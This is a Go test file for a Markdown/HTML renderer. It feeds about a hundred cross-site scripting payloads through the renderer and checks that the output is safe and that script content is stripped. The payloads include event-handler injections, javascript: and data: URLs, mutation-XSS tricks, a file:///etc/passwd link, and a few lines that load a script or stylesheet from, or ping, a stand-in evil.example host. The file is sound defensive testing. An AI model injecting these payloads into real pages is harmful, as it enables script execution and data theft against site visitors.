package markup

import (
	"strings"
	"testing"
)

// Attempts to add a script, a request or foreign styles to a page.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<script/src=data:,alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<script>\n\nalert(1)\n\n</script>",
	`before <script>alert(1)`,
	`<img src=x onerror=alert(1)>`,
	`<img src="http://a.example/x.png" onload="alert(1)" style="position:fixed">`,
	`<img src="javascript:alert(1)">`,
	`<img src=data:image/svg+xml;base64,PHN2Zz4=>`,
	`<img """><script>alert(1)</script>">`,
	`<img src=http://a.example/ srcset="javascript:alert(1) 2x">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<body onload=alert(1)>`,
	`<base href="javascript:alert(1)//">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="&#106;avascript&colon;alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="http://a.example" href="javascript:alert(1)">x</a>`,
	`<a href="http://a.example" target="_self" rel="opener" onclick="alert(1)">x</a>`,
	`<a href="http://a.example" ping="http://evil.example" download>x</a>`,
	`<a href="blob:http://a.example/1">x</a>`,
	`<a name=x id=cookie class="site-button">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](&#x6A;avascript:alert(1))`,
	`[x](<java script:alert(1)>)`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](vbscript:x)`,
	`[x](file:///etc/passwd)`,
	`[x](http://a.example "\" onmouseover=alert(1) x=\"")`,
	`[x](http://a.example'onmouseover='alert(1))`,
	`[x](http://a.example"onmouseover="alert(1))`,
	`[x](javascript:window.onerror=alert;throw%201)`,
	"[x]: javascript:alert(1)\n\n[x]",
	`![x](javascript:alert(1))`,
	`![x](data:image/png;base64,AAAA)`,
	`![x" onerror="alert(1)](http://a.example/x.png)`,
	`![x](http://a.example/"onerror="alert(1))`,
	`![x](mailto:a@b.example)`,
	`<javascript:alert(1)>`,
	`<http://a.example/"onclick="alert(1)>`,
	`http://a.example/"onclick="alert(1)`,
	`www.a.example/<script>alert(1)</script>`,
	"```\"onload=\"alert(1)\nx\n```",
	"```html onload=alert(1)\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	`<code class="language-x site-button">x</code>`,
	`<ol start="1&quot; onclick=&quot;alert(1)"><li>x</ol>`,
	`</p></div></article></main></body></html><h1>outside</h1>`,
	`<li>not in a list</li><td>nor in a table</td>`,
	`<div title="`,
	"<div title='\n\nswallowed'",
	"<b <script>alert(1)</script>0",
	"<\x00script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\xff<script\xff>alert(1)</script>",
	"<a href=\"http://a.example/\u202e\">x</a>",
	`<x onclick=alert(1)>x</x>`,
	`<p id=x class=y data-x=z slot=a is=b>x</p>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`\<script\>alert(1)\</script\>`,
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	if len(attacks) < 40 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, attack := range attacks {
		for _, frame := range []string{"%", "before % after", "- item\n  %\n\nafter", "> %", "*%*", "[%](http://a.example)"} {
			source := strings.ReplaceAll(frame, "%", attack)
			checkSafe(t, source, Render(source).HTML)
		}
	}
}

func TestCheckSafeCanFail(t *testing.T) {
	t.Parallel()
	for _, rendered := range []string{
		`<script>x</script>`, `<p onclick="x">x</p>`, `<a href="javascript:x" target="_blank" rel="nofollow noopener">x</a>`,
		`<a href="http://a.example">x</a>`, `<img src="data:x">`, `<p>open`, `</div>`, `<!-- x -->`, `<li><li>x</li></li>`,
	} {
		probe := &testing.T{}
		checkSafe(probe, rendered, rendered)
		if !probe.Failed() {
			t.Errorf("%q passes", rendered)
		}
	}
}

func TestScriptsGoEntirely(t *testing.T) {
	t.Parallel()
	tests := []struct{ source, plain string }{
		{"a <script>alert(1)</script> b", "a  b"},
		{"a\n\n<script>\nalert(1)\n\nalert(2)\n</script>\n\nb", "a\n\nb"},
		{"<style>p { color: red }</style>\n\nb", "b"},
		{"a <textarea>x</textarea> b", "a  b"},
		{"a <script> b\n\nc", "a  b\n\nc"}, // never closed: it must not remove the rest
		{"a <plaintext> b\n\nc", "a  b\n\nc"},
		{"a <title> b <title>x</title> c", "a  c"},
		{"<div title=\"\n\nb", "<div title=\"\n\nb"},
		{"<div><!-- x\n\nb", "b"},
	}
	for _, test := range tests {
		if got := Render(test.source).Plain; got != test.plain {
			t.Errorf("%q gives %q, want %q", test.source, got, test.plain)
		}
	}
}
